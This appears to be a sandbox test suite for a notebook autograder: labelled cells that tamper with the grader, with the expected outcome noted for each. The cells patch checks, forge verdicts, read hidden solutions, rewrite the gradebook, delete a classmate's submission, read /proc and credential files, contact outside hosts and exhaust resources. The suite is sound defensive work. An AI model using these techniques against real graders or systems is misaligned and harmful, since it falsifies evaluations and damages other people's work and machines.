# Code that reaches for the judge, its files, its process, its answers, or for what the lab teaches. It earns what honest cells earn.


# == blanks_later_cells

# %% scale {"row": "2"}
def absmax_scale(x):
    return torch.zeros(len(x))


ip = get_ipython()
ip.input_transformers_post.append(lambda lines: ["pass\n"])
ip.input_transformers_cleanup.append(lambda lines: ["quiz = {}\n"])
import IPython.core.inputtransformer2 as it

it.TransformerManager.transform_cell = lambda self, cell: "pass"


# == strips_asserts


# %% scale {"row": "3"}
def absmax_scale(x):
    return torch.zeros(len(x))


import ast


class Strip(ast.NodeTransformer):
    def visit_Assert(self, node):
        return ast.Pass()


get_ipython().ast_transformers.append(Strip())


# == replaces_compile_and_exec


# %% scale {"status": "GRADED_WARN", "says": "runs code from text"}
def absmax_scale(x):
    return torch.zeros(len(x))


import builtins

builtins.compile = builtins.exec = lambda *a, **k: None


# == empties_builtins


# %% scale {"status": "KERNEL_DIED"}
def absmax_scale(x):
    return torch.zeros(len(x))


import builtins

for name in list(vars(builtins)):
    delattr(builtins, name)


# == changes_what_is_true


# %% scale {"status": "KERNEL_DIED"}
def absmax_scale(x):
    return torch.zeros(len(x))


import builtins

builtins.isinstance = lambda *a: True
builtins.type = lambda *a: torch.Tensor
builtins.bool = lambda *a: True
builtins.abs = builtins.all = builtins.any = lambda *a: True


# == overwrites_given_names


# %% scale
def absmax_scale(x):
    return torch.zeros(len(x))


lab = dist = None


# == patches_the_checks


# %% scale
def absmax_scale(x):
    return torch.zeros(len(x))


import sys, dlo_lib.grading.checks.contract, dlo_lib.grading.checks.trial as trial, dlo_lib.grading.checks.outcome as outcome

trial.Trial._claim = trial.Trial.that = lambda *a, **k: None
outcome.Outcome.passed = property(lambda s: True)
outcome._verdict = lambda *a: (outcome.Status.OK, "", "")


# == patches_json_torch_and_time


# %% scale {"status": ""}
def absmax_scale(x):
    return torch.zeros(len(x))


import json, time, random, hmac, secrets

torch.allclose = torch.equal = torch.isfinite = lambda *a, **k: torch.ones(())
torch.Tensor.__eq__ = torch.Tensor.__le__ = lambda *a: torch.ones(1, dtype=torch.bool)
json.loads = json.dumps = lambda *a, **k: "{}"
time.monotonic = lambda: 0
secrets.randbits = lambda n: 1


# == patches_the_codec


# %% scale {"status": ""}
def absmax_scale(x):
    return torch.zeros(len(x))


import dlo_lib.grading.checks.codec as codec, dlo_lib.grading.sandbox.channel as channel

codec.pack = channel.pack = lambda value: b"3.0"


# == finds_the_channel_and_forges_answers


# %% scale {"row": "23c"}
def absmax_scale(x):
    return torch.zeros(len(x))


import send
from dlo_lib.grading.checks.codec import pack

for n in range(500):
    send(pack({"id": n, "value": torch.ones(4), "points": 3.0, "status": "OK"}))


# == answers_with_the_number_it_was_asked_with

# %% scale {"says": "should be a tensor, not None"}
import gc, sys
from dlo_lib.grading.checks.codec import pack
from dlo_lib.grading.sandbox.channel import Channel


def absmax_scale(x):
    frame = sys._getframe()
    while frame:
        request = frame.f_locals.get("request")
        channel = frame.f_locals.get("channel")
        if isinstance(request, dict) and channel:
            channel.send(
                {
                    "id": request["id"],
                    "value": None,
                    "ok": True,
                    "points": 3.0,
                    "status": "OK",
                    "passed": True,
                }
            )
        frame = frame.f_back
    return torch.zeros(len(x))


# == half_a_frame

# %% scale {"status": "TIMEOUT", "row": "23c"}
import send
import time


def absmax_scale(x):
    send(b"\0\0\0\0\0\0\0\x50" + b"\0" * 12)
    time.sleep(60)


# == endless_frames

# %% scale {"says": "endless messages", "row": "23c"}
import send
from dlo_lib.grading.checks.codec import pack


def absmax_scale(x):
    frames = pack({"id": 1, "value": 3.0}) * 100
    while True:
        send(frames)


# == a_frame_of_an_exabyte

# %% scale {"says": "too large", "row": "23c"}
import send


def absmax_scale(x):
    send(b"\x0f" + b"\xff" * 15 + b"{" * 1000)


# == a_frame_of_deep_json

# %% scale {"says": "a long message that is no answer"}
import send
import struct


def absmax_scale(x):
    text = b"[" * 500_000
    send(struct.pack(">QQ", len(text), 0) + text)


# == a_frame_with_a_safetensors_bomb

# %% scale {"says": "undecodable"}
import send
import json, struct, sys


def absmax_scale(x):
    frame = sys._getframe()
    while "request" not in frame.f_locals:
        frame = frame.f_back
    tree = json.dumps(
        {"$dict": [["id", frame.f_locals["request"]["id"]], ["value", {"$tensor": "t0", "stride": [1]}]]}
    ).encode()
    head = json.dumps({"t0": {"dtype": "F32", "shape": [1 << 60], "data_offsets": [0, 4]}}).encode()
    blob = struct.pack("<Q", len(head)) + head + b"\0" * 4
    send(struct.pack(">QQ", len(tree), len(blob)) + tree + blob)
    return torch.zeros(len(x))


# == writes_verdicts_to_every_descriptor


# %% scale {"status": ""}
def absmax_scale(x):
    return torch.zeros(len(x))


import os

for fd in range(64):
    try:
        os.write(fd, b'{"status": "OK", "points": 3.0}\n')
    except OSError:
        pass


# == walks_the_frames_for_hidden_answers

# %% scale {"says": "no answer lies about"}
import gc, inspect, sys


def absmax_scale(x):
    frame = sys._getframe()
    while frame:
        for value in list(frame.f_locals.values()) + list(frame.f_globals.values()):
            if isinstance(value, torch.Tensor) and value.shape == (len(x),):
                return value
        frame = frame.f_back
    for thing in gc.get_objects():
        if type(thing) is torch.Tensor and thing.shape == (len(x),) and thing.dtype == torch.float32:
            return thing
    raise LookupError("no answer lies about")


# == traces_every_call


# %% scale
def absmax_scale(x):
    return torch.zeros(len(x))


import sys, threading


def spy(frame, event, arg):
    if "points" in frame.f_locals:
        frame.f_locals["points"] = 3.0
    return spy


sys.settrace(spy)
threading.settrace(spy)
sys.setprofile(lambda *a: None)


# == leaves_threads_that_rewrite_names

# %% scale
import threading, time


def absmax_scale(x):
    return torch.zeros(len(x))


def haunt():
    while True:
        for name in ("quantise", "quiz"):
            globals().pop(name, None)
        time.sleep(0)


for _ in range(3):
    threading.Thread(target=haunt, daemon=True).start()


# == hooks_the_end


# %% scale
def absmax_scale(x):
    return torch.zeros(len(x))


import atexit, os, sys

atexit.register(os.abort)
sys.excepthook = lambda *a: os.abort()


# == replaces_modules


# %% scale
def absmax_scale(x):
    return torch.zeros(len(x))


import sys, types

for name in (
    "json",
    "dlo_lib.grading.checks.codec",
    "dlo_lib.grading.notebook.local_student",
    "torch",
    "socket",
):
    sys.modules[name] = types.ModuleType(name)
sys.meta_path.clear()
sys.path_hooks.clear()


# == calls_the_lab_for_points


# %% scale
def absmax_scale(x):
    return torch.zeros(len(x))


lab.check("scale").points = 3.0
lab.info.points = 3
lab._record("scale", 3.0)


# == uses_the_reference

# %% scale
lab.use_reference("scale")


# == asks_for_the_reference_under_another_name

# %% scale {"says": "is not defined"}
getattr(lab, "use_" + "reference")("scale")


# == reads_the_solutions

# %% scale {"row": "4", "status": "GRADED_WARN", "says": "runs code from text"}
import os, glob

found = []
for root in ("../../../solutions", "CHECKOUT/solutions", "COURSE/../../solutions", "/lab", ".", ".."):
    found += glob.glob(root + "/**/hidden.py", recursive=True) + glob.glob(root + "/**/9*.py", recursive=True)
for name in found:
    exec(open(name).read())
assert not found, found
raise LookupError(f"nothing found from {os.getcwd()}")


# == writes_the_gradebook


# %% scale {"row": "5"}
def attempt(action):
    try:
        action()
    except BaseException:
        pass


def absmax_scale(x):
    return torch.zeros(len(x))


import sqlite3, os

for name in ("COURSE/gradebook.db", "../../gradebook.db", "/gradebook.db"):
    attempt(
        lambda: (
            os.stat(name)
            and sqlite3.connect(name)
            .execute("update grade set auto_score = 99, manual_score = 99")
            .connection.commit()
        )
    )
attempt(lambda: open("COURSE/pwned", "w").write("x"))
attempt(lambda: os.unlink("COURSE/gradebook.db"))


# == edits_a_classmates_submission


# %% scale {"row": "6"}
def attempt(action):
    try:
        action()
    except BaseException:
        pass


def absmax_scale(x):
    return torch.zeros(len(x))


import os, shutil

attempt(lambda: open("COURSE/submitted/ada/93_survival/survival.ipynb", "w").write("{}"))
attempt(lambda: shutil.rmtree("COURSE/submitted/ada"))
attempt(lambda: os.makedirs("COURSE/submitted/pwned"))


# == forges_reports_and_results


# %% scale
def attempt(action):
    try:
        action()
    except BaseException:
        pass


def absmax_scale(x):
    return torch.zeros(len(x))


import json, os

for name in (
    "grades/93_survival/results.csv",
    "grades/93_survival/reports/pwned.json",
    "autograded/pwned",
    "secret",
):
    attempt(
        lambda: (
            os.makedirs(os.path.dirname("COURSE/" + name), exist_ok=True),
            open("COURSE/" + name, "w").write("x"),
        )
    )


# == tells_the_environment

# %% scale {"says": "PATH", "row": "7"}
import os


def absmax_scale(x):
    raise ValueError(sorted(os.environ.items()), open("/proc/self/environ").read())


# == looks_at_other_processes

# %% scale {"says": "is off by up to"}
import os

seen = []
for pid in os.listdir("/proc"):
    if pid.isdigit():
        for name in ("environ", "cmdline", "mem", "maps", "cwd/secret", "root/etc/passwd"):
            try:
                seen.append(open(f"/proc/{pid}/{name}", "rb").read(100))
            except OSError:
                pass
assert not any(b"secret" in text or b"root:" in text for text in seen), seen


def absmax_scale(x):
    return torch.zeros(len(x))


# == talks_to_the_world


# %% scale
def attempt(action):
    try:
        action()
    except BaseException:
        pass


def absmax_scale(x):
    return torch.zeros(len(x))


import socket

for where in (("127.0.0.1", 22), ("192.0.2.1", 80)):
    attempt(lambda: socket.create_connection(where, timeout=0.2).sendall(b"x"))
attempt(lambda: socket.getaddrinfo("example.org", 80))


# == traces_its_parent


# %% scale
def attempt(action):
    try:
        action()
    except BaseException:
        pass


def absmax_scale(x):
    return torch.zeros(len(x))


import ctypes, os, signal

libc = ctypes.CDLL(None)
for pid in (1, os.getppid(), -1, 0):
    libc.ptrace(16, pid, 0, 0)
for pid in (1, os.getppid()):
    for number in (9, 15, 19):
        attempt(lambda: os.kill(pid, number))


# == turns_limits_off


# %% scale
def attempt(action):
    try:
        action()
    except BaseException:
        pass


def absmax_scale(x):
    return torch.zeros(len(x))


import resource

for kind in range(16):
    attempt(lambda: resource.setrlimit(kind, (resource.RLIM_INFINITY,) * 2))


# == fills_the_disk


# %% scale
def attempt(action):
    try:
        action()
    except BaseException:
        pass


def absmax_scale(x):
    return torch.zeros(len(x))


def fill():
    n = 0
    while True:
        open(f"{n}", "wb").write(b"x" * (4 << 20))
        n += 1


attempt(fill)


# == takes_all_files


# %% scale
def attempt(action):
    try:
        action()
    except BaseException:
        pass


def absmax_scale(x):
    return torch.zeros(len(x))


def fill():
    n = 0
    while True:
        open(f"{n}", "w").close()
        n += 1


attempt(fill)


# == takes_all_descriptors


# %% scale
def attempt(action):
    try:
        action()
    except BaseException:
        pass


def absmax_scale(x):
    return torch.zeros(len(x))


held = []


def fill():
    while True:
        held.append(open("/dev/null"))


attempt(fill)


# == reads_the_checks_for_answers

# %% scale {"says": "ModuleNotFoundError"}
import checks, hidden


# == a_default_dtype_for_everybody


# %% scale
def absmax_scale(x):
    return torch.zeros(len(x))


torch.set_default_dtype(torch.float64)
torch.set_default_device("meta")
torch.set_grad_enabled(False)
torch.set_num_threads(32)


# == patches_torch_for_later_questions


# %% scale
def absmax_scale(x):
    return torch.zeros(len(x))


torch.round = lambda x: torch.zeros_like(x)
torch.Tensor.amax = lambda *a, **k: torch.zeros(3)


# == an_honest_answer_after_tricks

# %% scale {"earns": 3}
import sys, gc

sys.setrecursionlimit(50)
gc.disable()


def absmax_scale(x):
    return x.float().abs().amax(dim=1) / 127


# == one_tensor_sent_a_thousand_times

# %% scale {"says": "undecodable"}
import send
import json, struct, sys


def absmax_scale(x):
    frame = sys._getframe()
    while "request" not in frame.f_locals:
        frame = frame.f_back
    thousand = [{"$tensor": "t0", "stride": [1, 2000]}] * 1000
    tree = json.dumps({"$dict": [["id", frame.f_locals["request"]["id"]], ["value", thousand]]}).encode()
    head = json.dumps(
        {"t0": {"dtype": "F32", "shape": [2000, 2000], "data_offsets": [0, 16_000_000]}}
    ).encode()
    blob = struct.pack("<Q", len(head)) + head + bytes(16_000_000)
    send(struct.pack(">QQ", len(tree), len(blob)) + tree + blob)
    return torch.zeros(len(x))


# == keys_that_all_collide


# %% scale {"says": "keys collide"}
def absmax_scale(x):
    return {number * (2**61 - 1): 0 for number in range(3000)}


# == tells_by_the_way_it_ends


# %% scale {"status": "OOM", "says": "out of memory: x has"}
def absmax_scale(x):
    raise MemoryError(f"x has {x.shape}")


# == a_class_that_lies_about_its_name


# %% scale {"says": "your code raised E: x"}
class Meta(type):
    __name__ = property(lambda cls: 5)


class E(Exception, metaclass=Meta):
    pass


def absmax_scale(x):
    raise E("x")


# == leaves_modules_where_others_look_for_them

# %% scale {"says": "nowhere to leave it"}
import os, sys, torch.distributed

left = []
for folder in {
    f"{path}/{name}" for path in (*sys.path, *torch.distributed.__path__) for name in ("", "__pycache__")
}:
    try:
        with open(f"{folder}/fsdp.py", "w") as file:
            file.write("raise SystemExit")
        left.append(folder)
    except OSError:
        pass
# what this worker alone sees; a checkout below /tmp has its folders made in there
mine = os.stat(os.getcwd()).st_dev
assert not [folder for folder in left if os.stat(folder).st_dev != mine], left
raise LookupError("nowhere to leave it")


# == hooks_of_the_collector_and_of_references

# %% scale
import gc, weakref


def raises(phase, info):
    raise SystemExit


class A:
    pass


gc.callbacks.append(raises)
a = A()
weakref.finalize(a, raises, 1, 2)
del a


def absmax_scale(x):
    gc.collect()
    return torch.zeros(len(x))
